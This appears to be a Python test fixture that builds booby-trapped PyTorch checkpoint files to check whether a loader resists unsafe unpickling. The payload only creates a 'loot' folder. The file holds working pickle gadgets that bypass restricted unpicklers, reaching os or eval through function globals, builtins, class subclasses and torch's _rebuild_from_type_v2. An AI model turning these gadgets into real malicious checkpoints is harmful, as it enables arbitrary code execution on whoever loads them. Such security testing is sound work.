"""Checkpoints that run code when they are opened carelessly: they create a folder."""

import io
import os
import pickle
import tarfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

import torch
from mmengine.logging import HistoryBuffer
from torch._tensor import _rebuild_from_type_v2


class Call:
    """Unpickled, this is the result of ``function(*arguments)``."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.what = function, arguments

    def __reduce__(self) -> tuple:
        return self.what

    def __call__(self) -> None:
        """Nothing; pickle only asks whether it could call what stands for a function."""


def attribute(owner: object, *names: str) -> object:
    """``owner.first.second`` and so on, looked up while unpickling."""
    for name in names:
        owner = Call(getattr, owner, name)
    return owner


def entry(mapping: object, key: str) -> Call:
    return Call(attribute(mapping, 'get'), key)


def make_folder(loot: Path) -> Call:
    """The plainest of all."""
    return Call(os.mkdir, str(loot))


def by_globals(loot: Path, method: str) -> Call:
    """From a method of a class that is allowed to all that its module knows."""
    builtins = entry(attribute(HistoryBuffer, method, '__globals__'), '__builtins__')
    system = Call(entry(builtins, '__import__'), 'os')
    return Call(attribute(system, 'mkdir'), str(loot))


def by_builtins(loot: Path) -> Call:
    """A function leads to the built-in functions directly as well."""
    system = Call(entry(attribute(HistoryBuffer, '__init__', '__builtins__'), '__import__'), 'os')
    return Call(attribute(system, 'mkdir'), str(loot))


def by_class(loot: Path) -> Call:
    """Over ``object`` to every class there is, one of which knows the system."""
    everything = attribute(HistoryBuffer, '__base__')
    position = object.__subclasses__().index(os._wrap_close)
    classes = Call(attribute(HistoryBuffer, '__class__', '__subclasses__'), everything)
    knowing = Call(attribute(classes, '__getitem__'), position)
    return Call(entry(attribute(knowing, '__init__', '__globals__'), 'mkdir'), str(loot))


def by_rebuilding(loot: Path) -> Call:
    """torch's own helper, which is allowed, calls any function that one can name."""
    known = attribute(HistoryBuffer, 'mean', '__globals__')
    a_dict, a_builtin = attribute(known, '__class__'), attribute(known, 'get', '__class__')

    def called(function: object, kind: object, argument: str) -> Call:
        return Call(_rebuild_from_type_v2, function, kind, (argument,), None)

    builtins = called(attribute(known, 'get'), a_dict, '__builtins__')
    evaluate = called(attribute(builtins, 'get'), a_builtin, 'eval')
    return called(evaluate, a_dict, f"__import__('os').mkdir({str(loot)!r}) or {{}}")


def write_tar(content: dict, file: Path) -> None:
    """The format of torch before 0.2, whose first part is a pickle of its own."""
    with tarfile.open(file, 'w') as archive:
        for name in ('storages', 'tensors', 'pickle'):
            data = pickle.dumps(content, protocol=2)
            part = tarfile.TarInfo(name)
            part.size = len(data)
            archive.addfile(part, io.BytesIO(data))


def write_pickle(content: dict, file: Path, protocol: int) -> None:
    file.write_bytes(pickle.dumps(content, protocol=protocol))


write_legacy = partial(torch.save, _use_new_zipfile_serialization=False)

# What lies in the file, how the file is written, how it is called.
ATTACKS: dict[str, tuple[Callable, Callable, str]] = {
    'plain': (make_folder, torch.save, '.pth'),
    'legacy': (make_folder, write_legacy, '.pth'),
    'called safetensors': (make_folder, torch.save, '.safetensors'),
    'legacy called safetensors': (make_folder, write_legacy, '.safetensors'),
    'tar': (make_folder, write_tar, '.pth'),
    'pickle 0': (make_folder, partial(write_pickle, protocol=0), '.pth'),
    'pickle 2': (make_folder, partial(write_pickle, protocol=2), '.pkl'),
    'pickle 4': (make_folder, partial(write_pickle, protocol=4), '.pkl'),
    'globals of a method': (partial(by_globals, method='update'), torch.save, '.pth'),
    'globals of an allowed method': (partial(by_globals, method='mean'), torch.save, '.pth'),
    'built-ins of a method': (by_builtins, torch.save, '.pth'),
    'class of a class': (by_class, torch.save, '.pth'),
    'helper of torch': (by_rebuilding, torch.save, '.pth'),
    'legacy globals': (partial(by_globals, method='mean'), write_legacy, '.pth'),
}


def write_attack(name: str, content: dict, folder: Path) -> tuple[Path, Path]:
    """A file with ``content`` and more, and the folder that appears if it was run."""
    spell, write, suffix = ATTACKS[name]
    file, loot = folder / f'epoch_1{suffix}', folder / 'loot'
    write({'extra': spell(loot), **content}, file)
    return file, loot
